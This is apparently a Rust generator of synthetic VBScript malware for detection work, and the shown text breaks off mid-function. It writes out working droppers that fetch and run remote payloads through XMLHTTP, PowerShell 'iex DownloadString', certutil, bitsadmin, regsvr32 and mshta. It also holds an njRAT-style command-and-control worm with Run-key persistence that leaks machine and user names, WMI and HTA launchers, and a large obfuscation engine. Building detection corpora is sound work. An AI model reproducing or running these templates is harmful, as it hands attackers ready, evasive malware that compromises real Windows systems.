//! VBScript: GuLoader, worms of njRAT's kin and WSHRAT, loaders that hand over to PowerShell, HTML
//! applications.

use super::super::{base64, codes, each, hex, keyed, put, quoted, reversed, wide, xored};
use super::{
    Dice, Parts, Truth, agent, alphabet, cased, mark, mixed, places, plain, prose, spaced,
};
use std::fmt::Write;

/// An expression whose value is `text`; lines before it go to `before`.
pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let (name, value, at, out) = (mixed(dice, 5), mixed(dice, 5), mixed(dice, 4), mixed(dice, 6));
    let names = [
        ("NAME", name.as_str()),
        ("VALUE", value.as_str()),
        ("AT", at.as_str()),
        ("OUT", out.as_str()),
    ];
    match dice.below(17) {
        0 => match dice.below(3) {
            0 => each(text, " & ", |it| format!("Chr({it})")),
            1 => each(text, "&", |it| format!("ChrW(&H{it:X})")),
            _ => {
                let by = 1 + dice.below(300) as u32;
                each(text, " & ", |it| format!("Chr({}-{by})", u32::from(it) + by))
            }
        },
        1 => format!("StrReverse(\"{}\")", reversed(text)),
        2 => {
            let mark = mark(dice, text, &["#", "ZX", "_K_", "@", "~", "!!", "$%", "ﻼ", "☠", "ⵊ"]);
            let littered = dice.littered(text, &mark);
            if dice.chance(50) {
                format!("Replace(\"{littered}\", \"{mark}\", \"\")")
            } else {
                let _ = writeln!(
                    before,
                    "{name} = \"{littered}\"\n{name} = Replace({name}, \"{mark}\", vbNullString)"
                );
                name
            }
        }
        3 => {
            let pieces = quoted(&dice.pieces(text), '"');
            if dice.chance(50) {
                pieces.join(" & ")
            } else {
                let _ = writeln!(before, "{name} = {}", pieces[0]);
                for piece in &pieces[1..] {
                    let _ = writeln!(before, "{name} = {name} & {piece}");
                }
                name
            }
        }
        4 => {
            let by = dice.below(90) as u32 + 1;
            let mark = dice.pick(&["|", ",", ";", "-"]);
            let list: Vec<String> =
                text.bytes().map(|it| (u32::from(it) + by).to_string()).collect();
            before.push_str(&put(
                "@OUT@ = \"\"\nFor Each @AT@ In Split(\"@LIST@\", \"@MARK@\")\n    @OUT@ = @OUT@ & Chr(CInt(@AT@) - @BY@)\nNext\n",
                &[names[2], names[3], ("LIST", &list.join(mark)), ("MARK", mark), ("BY", &by.to_string())],
            ));
            out
        }
        5 => {
            let form = dice.pick(&[
                "Function @NAME@(@VALUE@)\n    Dim @AT@, @OUT@\n    @OUT@ = \"\"\n    For @AT@ = 1 To Len(@VALUE@) Step 2\n        @OUT@ = @OUT@ & Chr(CLng(\"&H\" & Mid(@VALUE@, @AT@, 2)))\n    Next\n    @NAME@ = @OUT@\nEnd Function\n",
                "Function @NAME@(ByVal @VALUE@)\nDim @OUT@\nWhile Len(@VALUE@) > 0\n@OUT@ = @OUT@ & ChrW(\"&h\" & Left(@VALUE@, 2))\n@VALUE@ = Mid(@VALUE@, 3)\nWend\n@NAME@ = @OUT@\nEnd Function\n",
            ]);
            before.push_str(&put(form, &names));
            format!("{name}(\"{}\")", hex(text.as_bytes()))
        }
        6 => {
            let form = dice.pick(&[
                "Function @NAME@(@VALUE@)\n    Dim @AT@, @OUT@\n    Set @AT@ = CreateObject(\"MSXML2.DOMDocument\")\n    Set @OUT@ = @AT@.createElement(\"b64\")\n    @OUT@.dataType = \"bin.base64\"\n    @OUT@.Text = @VALUE@\n    With CreateObject(\"ADODB.Stream\")\n        .Type = 1\n        .Open\n        .Write @OUT@.nodeTypedValue\n        .Position = 0\n        .Type = 2\n        .Charset = \"us-ascii\"\n        @NAME@ = .ReadText\n        .Close\n    End With\nEnd Function\n",
                "Function @NAME@(@VALUE@)\n    Dim @AT@, @OUT@\n    Set @OUT@ = CreateObject(\"Msxml2.DOMDocument.3.0\").CreateElement(\"base64\")\n    @OUT@.dataType = \"bin.base64\"\n    @OUT@.text = @VALUE@\n    For @AT@ = 1 To LenB(@OUT@.nodeTypedValue)\n        @NAME@ = @NAME@ & Chr(AscB(MidB(@OUT@.nodeTypedValue, @AT@, 1)))\n    Next\nEnd Function\n",
            ]);
            before.push_str(&put(form, &names));
            format!("{name}(\"{}\")", base64(text.as_bytes()))
        }
        7 => {
            let word = dice.name();
            before.push_str(&put(
                "Function @NAME@(@VALUE@, k)\n    Dim @AT@, @OUT@, c\n    For @AT@ = 1 To Len(@VALUE@) / 2\n        c = CInt(\"&H\" & Mid(@VALUE@, @AT@ * 2 - 1, 2))\n        @OUT@ = @OUT@ & Chr(c Xor Asc(Mid(k, ((@AT@ - 1) Mod Len(k)) + 1, 1)))\n    Next\n    @NAME@ = @OUT@\nEnd Function\n",
                &names,
            ));
            format!("{name}(\"{}\", \"{word}\")", hex(&keyed(text, &word)))
        }
        8 => {
            let key = dice.key();
            let list = codes(xored(text, key), ", ");
            before.push_str(&put(
                "@VALUE@ = Array(@LIST@)\n@OUT@ = \"\"\nFor @AT@ = LBound(@VALUE@) To UBound(@VALUE@)\n@OUT@ = @OUT@ & Chr(@VALUE@(@AT@) Xor @KEY@)\nNext\n",
                &[names[1], names[2], names[3], ("LIST", &list), ("KEY", &key.to_string())],
            ));
            out
        }
        9 => {
            let inner = each(text, "&", |it| format!("Chr({it})"));
            if dice.chance(50) {
                format!("Eval(\"{inner}\")")
            } else {
                let _ = writeln!(before, "Execute \"{name} = {inner}\"");
                name
            }
        }
        10 if plain(text) => {
            let letters = alphabet(dice);
            let _ = writeln!(before, "{name} = \"{letters}\"");
            let list: Vec<String> = places(text, &letters)
                .iter()
                .map(|it| format!("Mid({name},{},1)", it + 1))
                .collect();
            list.join(" & ")
        }
        11 => {
            // GuLoader: every so many-th letter.
            let width = 1 + dice.below(5);
            let littered = spaced(dice, text, width);
            before.push_str(&put(
                "Function @NAME@(@VALUE@)\nDim @AT@, @OUT@\nFor @AT@ = @STEP@ To Len(@VALUE@) Step @STEP@\n@OUT@ = @OUT@ & Mid(@VALUE@, @AT@, 1)\nNext\n@NAME@ = @OUT@\nEnd Function\n",
                &[names[0], names[1], names[2], names[3], ("STEP", &(width + 1).to_string())],
            ));
            format!("{name}(\"{littered}\")")
        }
        12 => format!("Join(Array({}), \"\")", quoted(&dice.pieces(text), '"').join(", ")),
        13 if plain(text) => {
            let letters = alphabet(dice);
            let by = 1 + dice.below(letters.len() - 1);
            let turned: String = places(text, &letters)
                .iter()
                .map(|it| char::from(letters.as_bytes()[(it + by) % letters.len()]))
                .collect();
            before.push_str(&put(
                "Function @NAME@(@VALUE@)\n    Dim @AT@, p, a, @OUT@\n    a = \"@LETTERS@\"\n    For @AT@ = 1 To Len(@VALUE@)\n        p = InStr(a, Mid(@VALUE@, @AT@, 1)) - 1 - @BY@\n        If p < 0 Then p = p + Len(a)\n        @OUT@ = @OUT@ & Mid(a, p + 1, 1)\n    Next\n    @NAME@ = @OUT@\nEnd Function\n",
                &[names[0], names[1], names[2], names[3], ("LETTERS", &letters), ("BY", &by.to_string())],
            ));
            format!("{name}(\"{turned}\")")
        }
        14 => {
            let mut littered = String::new();
            for letter in text.chars() {
                while dice.chance(45) {
                    littered.push_str(dice.pick(&["<", ">", "~", "*", "^", "{", "}", "%"]));
                }
                littered.push(letter);
            }
            before.push_str(&put(
                "Set @AT@ = New RegExp\n@AT@.Pattern = \"[<>~*^{}%]\"\n@AT@.Global = True\n@OUT@ = @AT@.Replace(\"@LIST@\", \"\")\n",
                &[names[2], names[3], ("LIST", &littered)],
            ));
            out
        }
        15 => {
            let _ = writeln!(before, "Const {name} = \"{}\"", hex(text.as_bytes()));
            before.push_str(&put(
                "@OUT@ = \"\"\n@AT@ = 1\nDo While @AT@ < Len(@NAME@)\n  @OUT@ = @OUT@ + Chr(\"&H\" + Mid(@NAME@, @AT@, 2))\n  @AT@ = @AT@ + 2\nLoop\n",
                &names,
            ));
            out
        }
        _ => {
            // Pieces in a dictionary, taken out in order.
            let pieces = dice.pieces(text);
            let _ = writeln!(before, "Set {name} = CreateObject(\"Scripting.Dictionary\")");
            for at in dice.order(pieces.len()) {
                let _ = writeln!(before, "{name}.Add \"{at}\", \"{}\"", pieces[at]);
            }
            (0..pieces.len())
                .map(|at| format!("{name}.Item(\"{at}\")"))
                .collect::<Vec<_>>()
                .join(" & ")
        }
    }
}

/// Comments and variables that nothing is made of.
fn junk(dice: &mut Dice) -> String {
    let mut out = String::new();
    for _ in 0..dice.below(8) {
        let (name, words) = (mixed(dice, 7), 3 + dice.below(5));
        let text = prose(dice, words);
        let count = 100 + dice.below(90_000);
        let _ = match dice.below(6) {
            0 => writeln!(out, "' {text}"),
            1 => writeln!(out, "REM {text}"),
            2 => writeln!(out, "Dim {name}\n{name} = {count}"),
            3 => writeln!(out, "{name} = \"{text}\""),
            4 => writeln!(out, "If {count} = {} Then\n    {name} = Now\nEnd If", count + 1),
            _ => writeln!(out, "Const {name} = {count}"),
        };
    }
    out
}

fn start(dice: &mut Dice) -> String {
    let mut out = junk(dice);
    if dice.chance(60) {
        out.push_str("On Error Resume Next\n");
    }
    if dice.chance(20) {
        out.push_str("If WScript.Arguments.Count > 5 Then WScript.Quit\n");
    }
    if dice.chance(20) {
        let _ = writeln!(out, "WScript.Sleep {}", 500 + dice.below(5000));
    }
    out
}

/// The URL, hidden or not, in a variable or not.
fn address(dice: &mut Dice, url: &str, before: &mut String) -> String {
    let word = if dice.chance(85) { hide(dice, url, before) } else { format!("\"{url}\"") };
    before.push_str(&junk(dice));
    if dice.chance(70) {
        let name = mixed(dice, 7);
        let _ = writeln!(before, "{name} = {word}");
        name
    } else {
        format!("({word})")
    }
}

/// The name of an object, as it is or hidden.
fn object(dice: &mut Dice, name: &str, before: &mut String) -> String {
    let name = if dice.chance(50) { cased(dice, name) } else { name.to_owned() };
    if dice.chance(35) { hide(dice, &name, before) } else { format!("\"{name}\"") }
}

/// A dropper of which `truth` tells what it contacts.
pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    match dice.below(15) {
        0 | 1 => saved(dice, truth),
        2 => executed(dice, truth),
        3 => guloader(dice, truth),
        4 => to_powershell(dice, truth),
        5 => packed_powershell(dice, truth),
        6 => worm(dice, truth),
        7 => management(dice, truth),
        8 => coded_whole(dice, truth),
        9 => programs(dice, truth),
        10 => application(dice, truth),
        11 => functions(dice, truth),
        12 => several(dice, truth),
        13 => installer(dice, truth),
        _ => beacon(dice, truth),
    }
}

/// XMLHTTP, Stream, Shell.
fn saved(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = start(dice);
    let url = truth.url(dice, &[".exe", "", ".dll", ".jpg"]);
    let word = address(dice, &url, &mut out);
    let request = dice_object(dice);
    let request = object(dice, request, &mut out);
    let stream = object(dice, "ADODB.Stream", &mut out);
    let shell = object(dice, "WScript.Shell", &mut out);
    let (http, data, run, file) = (mixed(dice, 6), mixed(dice, 6), mixed(dice, 6), dice.name());
    let form = dice.pick(&[
        "Set @HTTP@ = CreateObject(@REQUEST@)\nSet @RUN@ = CreateObject(@SHELL@)\n@FILE@ = @RUN@.ExpandEnvironmentStrings(\"%TEMP%\") & \"\\@FILE@.exe\"\n@HTTP@.Open \"GET\", @URL@, False\n@HTTP@.setRequestHeader \"User-Agent\", \"@AGENT@\"\n@HTTP@.Send\nIf @HTTP@.Status = 200 Then\n    Set @DATA@ = CreateObject(@STREAM@)\n    @DATA@.Open\n    @DATA@.Type = 1\n    @DATA@.Write @HTTP@.ResponseBody\n    @DATA@.Position = 0\n    @DATA@.SaveToFile @FILE@, 2\n    @DATA@.Close\n    @RUN@.Run Chr(34) & @FILE@ & Chr(34), 0, False\nEnd If\n",
        "dim @HTTP@: Set @HTTP@ = createobject(@REQUEST@)\ndim @DATA@: Set @DATA@ = createobject(@STREAM@)\n@HTTP@.Open \"GET\", @URL@, False\n@HTTP@.Send\nwith @DATA@\n    .type = 1\n    .open\n    .write @HTTP@.responseBody\n    .savetofile CreateObject(\"Scripting.FileSystemObject\").GetSpecialFolder(2) & \"\\@FILE@.dll\", 2\nend with\nCreateObject(@SHELL@).Run \"rundll32 %TEMP%\\@FILE@.dll,#1\", 0\n",
        "Sub @FILE@(u, p)\n    Set @HTTP@ = CreateObject(@REQUEST@)\n    @HTTP@.Open \"GET\", u, 0\n    @HTTP@.Send\n    Set @DATA@ = CreateObject(@STREAM@)\n    @DATA@.Mode = 3\n    @DATA@.Type = 1\n    @DATA@.Open()\n    @DATA@.Write(@HTTP@.responseBody)\n    @DATA@.SaveToFile p, 2\nEnd Sub\nSet @RUN@ = CreateObject(@SHELL@)\nCall @FILE@(@URL@, @RUN@.SpecialFolders(\"Startup\") & \"\\s.exe\")\n@RUN@.Run \"\"\"\" & @RUN@.SpecialFolders(\"Startup\") & \"\\s.exe\"\"\"\n",
    ]);
    out + &put(
        form,
        &[
            ("HTTP", &http),
            ("REQUEST", &request),
            ("RUN", &run),
            ("SHELL", &shell),
            ("FILE", &file),
            ("URL", &word),
            ("AGENT", agent(dice)),
            ("DATA", &data),
            ("STREAM", &stream),
        ],
    )
}

fn dice_object(dice: &mut Dice) -> &'static str {
    super::dice_static(
        dice,
        &[
            "MSXML2.XMLHTTP",
            "Microsoft.XMLHTTP",
            "MSXML2.ServerXMLHTTP.6.0",
            "WinHttp.WinHttpRequest.5.1",
            "Msxml2.ServerXMLHTTP",
        ],
    )
}

/// What the server sends is executed.
fn executed(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = start(dice);
    let url = truth.url(dice, &["", ".txt", ".vbs"]);
    let word = address(dice, &url, &mut out);
    let request = dice_object(dice);
    let request = object(dice, request, &mut out);
    let (http, text) = (mixed(dice, 6), mixed(dice, 6));
    let form = dice.pick(&[
        "Set @HTTP@ = CreateObject(@REQUEST@)\n@HTTP@.Open \"GET\", @URL@, False\n@HTTP@.Send\nExecute @HTTP@.ResponseText\n",
        "With CreateObject(@REQUEST@)\n  .Open \"POST\", @URL@, False\n  .setRequestHeader \"Content-Type\", \"application/x-www-form-urlencoded\"\n  .Send \"id=\" & CreateObject(\"WScript.Network\").ComputerName\n  @TEXT@ = .responseText\nEnd With\nIf Len(@TEXT@) > 10 Then ExecuteGlobal @TEXT@\n",
        "Function @TEXT@(u)\n  Dim h: Set h = CreateObject(@REQUEST@)\n  h.Open \"GET\", u, False: h.Send\n  @TEXT@ = h.responseText\nEnd Function\n@HTTP@ = @TEXT@(@URL@)\nExecuteGlobal(StrReverse(@HTTP@))\n",
    ]);
    out + &put(form, &[("HTTP", &http), ("REQUEST", &request), ("URL", &word), ("TEXT", &text)])
}

/// A command for PowerShell, made by VBScript.
fn command(dice: &mut Dice, url: &str) -> String {
    let name = mixed(dice, 4);
    put(
        dice.pick(&[
            "iex (New-Object Net.WebClient).DownloadString('@URL@')",
            "$@NAME@='@URL@';iex (iwr $@NAME@ -UseBasicParsing).Content",
            "(New-Object Net.WebClient).DownloadFile('@URL@',$env:TEMP+'\\@NAME@.exe');start ($env:TEMP+'\\@NAME@.exe')",
            "$@NAME@=(New-Object Net.WebClient).DownloadData('@URL@');[Reflection.Assembly]::Load($@NAME@).EntryPoint.Invoke($null,$null)",
        ]),
        &[("NAME", &name), ("URL", url)],
    )
}

/// GuLoader: the function of PowerShell that takes every so many-th letter is put together here.
fn guloader(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".bin", ".psm", ".toc"]);
    let width = 3 + dice.below(4);
    let (function, value, out_name, at) =
        (mixed(dice, 6), mixed(dice, 6), mixed(dice, 6), mixed(dice, 6));
    let mut hidden = |text: &str| format!("{function} '{}'", spaced(dice, text, width));
    let client = hidden("Net.WebClient");
    let address = hidden(&url);
    let agent_word = hidden("User-Agent");
    let script = put(
        "Function @FUNCTION@ ([String]$@VALUE@){For($@AT@=@WIDTH@; $@AT@ -lt $@VALUE@.Length; $@AT@+=@STEP@){$@OUT@+=$@VALUE@.Substring($@AT@, 1)};$@OUT@;}$ww=New-Object (@CLIENT@);$ww.Headers[(@AGENT@)]='Mozilla/5.0';$uu=@ADDRESS@;$ff=$env:APPDATA+'\\Ungaro.pos';while(-not(Test-Path $ff)){$ww.DownloadFile($uu,$ff);Start-Sleep 5}",
        &[
            ("FUNCTION", &function),
            ("VALUE", &value),
            ("AT", &at),
            ("WIDTH", &width.to_string()),
            ("STEP", &(width + 1).to_string()),
            ("OUT", &out_name),
            ("CLIENT", &client),
            ("AGENT", &agent_word),
            ("ADDRESS", &address),
        ],
    );
    let mut out = start(dice);
    let name = mixed(dice, 8);
    for piece in super::lines(&script, 40 + dice.below(40)) {
        out.push_str(&junk(dice));
        let _ = writeln!(out, "{name} = {name} & \"{piece}\"");
    }
    let shell = object(dice, "Shell.Application", &mut out);
    let _ = if dice.chance(50) {
        writeln!(
            out,
            "Set Trk = CreateObject({shell})\nTrk.ShellExecute \"powershell.exe\", Chr(34) & {name} & Chr(34), \"\", \"\", 0"
        )
    } else {
        writeln!(
            out,
            "CreateObject(\"WScript.Shell\").Run \"powershell.exe \" & Chr(34) & {name} & Chr(34), 0, False"
        )
    };
    out
}

/// PowerShell is run with the command as it is or encoded.
fn to_powershell(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = start(dice);
    let url = truth.url(dice, &["", ".ps1", ".txt"]);
    let command = command(dice, &url);
    let shell = object(dice, "WScript.Shell", &mut out);
    let name = mixed(dice, 6);
    match dice.below(4) {
        0 => {
            let _ = writeln!(
                out,
                "Set {name} = CreateObject({shell})\n{name}.Run \"powershell -w hidden -nop -ep bypass -enc {}\", 0, False",
                base64(&wide(&command))
            );
        }
        1 => {
            let word = hide(dice, &command, &mut out);
            let _ = writeln!(
                out,
                "{name} = {word}\nCreateObject({shell}).Run \"powershell -nop -w hidden -c \" & Chr(34) & {name} & Chr(34), 0"
            );
        }
        2 => {
            let word = address(dice, &url, &mut out);
            let _ = writeln!(
                out,
                "{name} = \"powershell -NoP -W Hidden -C \"\"IEX (IRM '\" & {word} & \"')\"\"\"\nCreateObject({shell}).Run {name}, 0, True"
            );
        }
        _ => {
            let word = address(dice, &url, &mut out);
            let _ = writeln!(
                out,
                "Set {name} = CreateObject({shell})\n{name}.Exec(\"powershell.exe -nop -c (New-Object Net.WebClient).DownloadFile('\" & {word} & \"','C:\\Users\\Public\\a.exe');Start-Process C:\\Users\\Public\\a.exe\")"
            );
        }
    }
    out
}

/// Base64 with a letter replaced, which PowerShell puts back.
fn packed_powershell(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = start(dice);
    let url = truth.url(dice, &[".jpg", ".txt", "", ".png"]);
    let inner = put(
        "$imageUrl = '@URL@';$webClient = New-Object System.Net.WebClient;$imageBytes = $webClient.DownloadData($imageUrl);$imageText = [System.Text.Encoding]::UTF8.GetString($imageBytes);$startFlag = '<<BASE64_START>>';$endFlag = '<<BASE64_END>>';$startIndex = $imageText.IndexOf($startFlag);$endIndex = $imageText.IndexOf($endFlag);$startIndex += $startFlag.Length;$base64Command = $imageText.Substring($startIndex, $endIndex - $startIndex);$loadedAssembly = [System.Reflection.Assembly]::Load([System.Convert]::FromBase64String($base64Command));$type = $loadedAssembly.GetType('ClassLibrary3.Class1');$type.GetMethod('Run').Invoke($null, [object[]] ('1'))",
        &[("URL", &url)],
    );
    let mark = dice.pick(&["DgTre", "#@", "⌚⏳", "Cj@", "↓:↓"]);
    let packed = base64(&wide(&inner)).replace('A', mark);
    let (name, code) = (mixed(dice, 6), mixed(dice, 6));
    for (at, piece) in super::lines(&packed, 80 + dice.below(200)).iter().enumerate() {
        let _ = if at == 0 {
            writeln!(out, "{name} = \"{piece}\"")
        } else {
            writeln!(out, "{name} = {name} & \"{piece}\"")
        };
        if dice.chance(10) {
            out.push_str(&junk(dice));
        }
    }
    let form = dice.pick(&[
        "@CODE@ = \"$codigo = '\" & @NAME@ & \"';\"\n@CODE@ = @CODE@ & \"$OWjuxd = [system.Text.encoding]::Unicode.GetString([system.Convert]::Frombase64String( $codigo.replace('@MARK@','A') ));\"\n@CODE@ = @CODE@ & \"powershell.exe -windowstyle hidden -executionpolicy bypass -NoProfile -command $OWjuxd\"\nCreateObject(\"WScript.Shell\").Run \"powershell -command \" & Chr(34) & @CODE@ & Chr(34), 0, False\n",
        "@NAME@ = Replace(@NAME@, \"@MARK@\", \"A\")\nSet @CODE@ = CreateObject(\"WScript.Shell\")\n@CODE@.Run \"powershell -NoProfile -WindowStyle Hidden -EncodedCommand \" & @NAME@, 0, False\n",
    ]);
    out + &put(form, &[("CODE", &code), ("NAME", &name), ("MARK", mark)])
}

/// The worms that ask a server for orders over HTTP.
fn worm(dice: &mut Dice, truth: &mut Truth) -> String {
    let (host, port) = (dice.host(), dice.port());
    let word = dice.pick(&["is-ready", "Vre", "is-rdy"]);
    truth.joined(&format!("http://{host}:{port}"), &format!("/{word}"));
    let mut out = String::from(
        "'<[ recoder : unknown ]>\n\n'=-=-=-=-= config =-=-=-=-=-=-=-=-=-=-=-=-=-=-=\n\n",
    );
    let host_word =
        if dice.chance(60) { hide(dice, &host, &mut out) } else { format!("\"{host}\"") };
    let form = dice.pick(&[
        "host = @HOST@\nport = @PORT@\ninstalldir = \"%temp%\"\nlnkfile = true\nlnkfolder = true\n\ndim shellobj\nset shellobj = wscript.createobject(\"wscript.shell\")\ndim filesystemobj\nset filesystemobj = createobject(\"scripting.filesystemobject\")\ndim httpobj\nset httpobj = createobject(\"msxml2.xmlhttp\")\n\ninstallname = wscript.scriptname\nstartup = shellobj.specialfolders (\"startup\") & \"\\\"\ninstalldir = shellobj.expandenvironmentstrings(installdir) & \"\\\"\nspliter = \"<\" & \"|\" & \">\"\nsleep = 5000\ndim response\ndim cmd\ninfo = \"\"\n\non error resume next\nwhile true\n\nresponse = \"\"\nresponse = post (\"@WORD@\",\"\")\ncmd = split (response,spliter)\nselect case cmd (0)\ncase \"excecute\"\n      param = cmd (1)\n      execute param\ncase \"uninstall\"\n      wscript.quit\nend select\n\nwscript.sleep sleep\n\nwend\n\nfunction post (cmd ,param)\n\npost = param\nhttpobj.open \"post\",\"http://\" & host & \":\" & port &\"/\" & cmd, false\nhttpobj.setrequestheader \"user-agent:\",information\nhttpobj.send param\npost = httpobj.responsetext\nend function\n\nfunction information\non error resume next\nif info = \"\" then\n    info = shellobj.expandenvironmentstrings(\"%computername%\") & spliter & shellobj.expandenvironmentstrings(\"%username%\")\nend if\ninformation = info\nend function\n",
        "Dim H, P, sh, fs, xx\nH = @HOST@\nP = \"@PORT@\"\nSet sh = CreateObject(\"WScript.Shell\")\nSet fs = CreateObject(\"Scripting.FileSystemObject\")\nSet xx = CreateObject(\"Microsoft.XMLHTTP\")\nOn Error Resume Next\nfs.CopyFile WScript.ScriptFullName, sh.SpecialFolders(\"Startup\") & \"\\\" & WScript.ScriptName, True\nsh.RegWrite \"HKCU\\software\\microsoft\\windows\\currentversion\\run\\Updater\", \"wscript.exe //B \" & Chr(34) & WScript.ScriptFullName & Chr(34), \"REG_SZ\"\nDo\n    a = Split(Pt(\"@WORD@\", \"\"), \"|V|\")\n    Select Case a(0)\n        Case \"exc\"\n            ExecuteGlobal a(1)\n        Case \"Un\"\n            WScript.Quit\n    End Select\n    WScript.Sleep 7000\nLoop\nFunction Pt(C, A)\n    xx.Open \"POST\", \"http://\" & H & \":\" & P & \"/\" & C, False\n    xx.SetRequestHeader \"User-Agent:\", \"W\" & \"\\\" & sh.ExpandEnvironmentStrings(\"%COMPUTERNAME%\")\n    xx.Send A\n    Pt = xx.ResponseText\nEnd Function\n",
    ]);
    out + &put(form, &[("HOST", &host_word), ("PORT", &port.to_string()), ("WORD", word)])
}

/// Started by WMI.
fn management(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = start(dice);
    let url = truth.url(dice, &["", ".hta", ".ps1"]);
    let inner = command(dice, &url);
    let line = match dice.below(3) {
        0 => format!("mshta {url}"),
        1 => format!("powershell -w hidden -c {inner}"),
        _ => format!("powershell -w hidden -enc {}", base64(&wide(&inner))),
    };
    let word = hide(dice, &line, &mut out);
    let name = mixed(dice, 6);
    let form = dice.pick(&[
        "@NAME@ = @LINE@\nSet s = GetObject(\"winmgmts:{impersonationLevel=impersonate}!\\\\.\\root\\cimv2\")\nSet c = s.Get(\"Win32_ProcessStartup\").SpawnInstance_\nc.ShowWindow = 0\ns.Get(\"Win32_Process\").Create @NAME@, Null, c, pid\n",
        "@NAME@ = @LINE@\nGetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\").Create @NAME@, Null, Null, p\n",
        "@NAME@ = @LINE@\nSet o = GetObject(\"new:13709620-C279-11CE-A49E-444553540000\")\no.ShellExecute \"cmd.exe\", \"/c \" & @NAME@, \"\", \"open\", 0\n",
    ]);
    out + &put(form, &[("NAME", &name), ("LINE", &word)])
}

/// A whole script in numbers, letters or digits, executed.
fn coded_whole(dice: &mut Dice, truth: &mut Truth) -> String {
    let inner = match dice.below(3) {
        0 => saved(dice, truth),
        1 => executed(dice, truth),
        _ => to_powershell(dice, truth),
    };
    // Numbers of bytes are those of letters only in ASCII.
    let inner = if inner.is_ascii() { inner } else { return inner };
    let mut out = start(dice);
    let (name, list, at) = (mixed(dice, 6), mixed(dice, 6), mixed(dice, 5));
    let by = 1 + dice.below(40) as u8;
    let inner_codes = match dice.below(2) {
        0 => {
            inner.bytes().map(|it| (u32::from(it) * u32::from(by)).to_string()).collect::<Vec<_>>()
        }
        _ => Vec::new(),
    };
    if inner_codes.is_empty() {
        for (count, piece) in super::lines(&hex(inner.as_bytes()), 200).iter().enumerate() {
            let _ = if count == 0 {
                writeln!(out, "{list} = \"{piece}\"")
            } else {
                writeln!(out, "{list} = {list} & \"{piece}\"")
            };
        }
        let _ = writeln!(
            out,
            "For {at} = 1 To Len({list}) Step 2\n{name} = {name} & Chr(\"&H\" & Mid({list}, {at}, 2))\nNext\nExecuteGlobal {name}"
        );
    } else {
        for (count, piece) in inner_codes.chunks(40).enumerate() {
            let piece = piece.join("*");
            let _ = if count == 0 {
                writeln!(out, "{list} = \"{piece}\"")
            } else {
                writeln!(out, "{list} = {list} & \"*{piece}\"")
            };
        }
        let _ = writeln!(
            out,
            "For Each {at} In Split({list}, \"*\")\n    {name} = {name} & Chr(CLng({at}) / {by})\nNext\nExecute {name}"
        );
    }
    out
}

/// Programs of Windows that fetch.
fn programs(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = start(dice);
    let url = truth.url(dice, &[".exe", "", ".zip", ".sct"]);
    let word = address(dice, &url, &mut out);
    let shell = object(dice, "WScript.Shell", &mut out);
    let (name, file) = (mixed(dice, 6), dice.name());
    let form = dice.pick(&[
        "Set @NAME@ = CreateObject(@SHELL@)\n@NAME@.Run \"cmd /c curl -s -o %TEMP%\\@FILE@.exe \" & @URL@ & \" && %TEMP%\\@FILE@.exe\", 0, False\n",
        "CreateObject(@SHELL@).Run \"certutil -urlcache -split -f \" & @URL@ & \" %TEMP%\\@FILE@.exe\", 0, True\nCreateObject(@SHELL@).Run \"%TEMP%\\@FILE@.exe\", 0\n",
        "Set @NAME@ = CreateObject(@SHELL@)\n@NAME@.Run \"bitsadmin /transfer @FILE@ /priority foreground \" & @URL@ & \" \" & @NAME@.ExpandEnvironmentStrings(\"%APPDATA%\") & \"\\@FILE@.exe\", 0, True\n",
        "CreateObject(@SHELL@).Run \"regsvr32 /s /n /u /i:\" & @URL@ & \" scrobj.dll\", 0\n",
        "CreateObject(@SHELL@).Run \"mshta.exe \" & @URL@, 0, False\n",
        "Set @NAME@ = GetObject(\"script:\" & @URL@)\n",
    ]);
    out + &put(form, &[("NAME", &name), ("SHELL", &shell), ("FILE", &file), ("URL", &word)])
}

/// An HTML application.
fn application(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut inner = String::new();
    let url = truth.url(dice, &["", ".ps1", ".exe"]);
    let word = address(dice, &url, &mut inner);
    let name = mixed(dice, 6);
    let form = dice.pick(&[
        "Set @NAME@ = CreateObject(\"WScript.Shell\")\n@NAME@.Run \"powershell -w hidden -nop -c \"\"iex (iwr '\" & @URL@ & \"' -useb)\"\"\", 0, False\n",
        "Dim @NAME@\nSet @NAME@ = CreateObject(\"MSXML2.XMLHTTP\")\n@NAME@.Open \"GET\", @URL@, False\n@NAME@.Send\nExecuteGlobal @NAME@.responseText\n",
        "CreateObject(\"Shell.Application\").ShellExecute \"mshta\", @URL@, \"\", \"open\", 0\n",
    ]);
    let body = inner + &put(form, &[("NAME", &name), ("URL", &word)]);
    let title = prose(dice, 2);
    match dice.below(3) {
        0 => format!(
            "<html>\n<head>\n<title>{title}</title>\n<HTA:APPLICATION ID=\"{name}\" WINDOWSTATE=\"minimize\" SHOWINTASKBAR=\"no\" CAPTION=\"no\"/>\n<script language=\"VBScript\">\n{body}self.close\n</script>\n</head>\n<body></body>\n</html>\n"
        ),
        1 => format!(
            "<job id=\"{name}\">\n<script language=\"VBScript\">\n<![CDATA[\n{body}]]>\n</script>\n</job>\n"
        ),
        _ => format!(
            "<!DOCTYPE html>\n<html>\n<HEAD>\n<script type=\"text/vbscript\">\nwindow.resizeTo 0, 0\nSub Window_OnLoad\nCall Go()\nwindow.close\nEnd Sub\nSub Go()\n{}End Sub\n</script>\n</HEAD>\n<body>{title}</body></html>\n",
            without_functions(&body)
        ),
    }
}

/// Procedures cannot stand within one another; such a script starts at once.
fn without_functions(body: &str) -> String {
    if body.contains("Function ") || body.contains("Const ") {
        format!("End Sub\n{body}Sub Other()\n")
    } else {
        body.to_owned()
    }
}

/// The work is in functions with telling nothing names, and the order is of calls.
fn functions(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = start(dice);
    let url = truth.url(dice, &[".exe", "", ".msi"]);
    let word = hide(dice, &url, &mut out);
    let names: Vec<String> = (0..5).map(|_| mixed(dice, 7)).collect();
    let request = dice_object(dice);
    let mut parts = [
